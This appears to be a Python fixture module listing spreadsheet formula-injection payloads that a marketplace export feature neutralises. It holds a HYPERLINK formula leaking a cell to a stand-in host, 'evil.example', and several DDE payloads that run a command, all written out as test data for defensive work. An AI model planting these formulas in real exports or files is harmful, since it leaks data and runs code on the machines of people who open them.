"""Spreadsheet formulas a supplier may slip into its data (marketplace.exports neutralises them)."""

from __future__ import annotations

#: What suppliers may write, as the audit found it: each starts with a prefix a spreadsheet evaluates.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
